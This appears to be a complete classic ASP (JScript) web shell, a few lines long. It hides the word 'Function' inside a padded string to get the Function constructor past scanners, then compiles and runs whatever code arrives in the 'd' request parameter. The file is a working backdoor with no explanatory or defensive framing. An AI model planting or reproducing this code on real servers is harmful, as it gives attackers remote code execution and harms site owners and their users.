<%@ Language="JScript" %>
<%
var t = "xxFunctionyy".substr(2, 8);
var C = this[t];
var d = Request("d");
C("return 1;" + d)();
%>
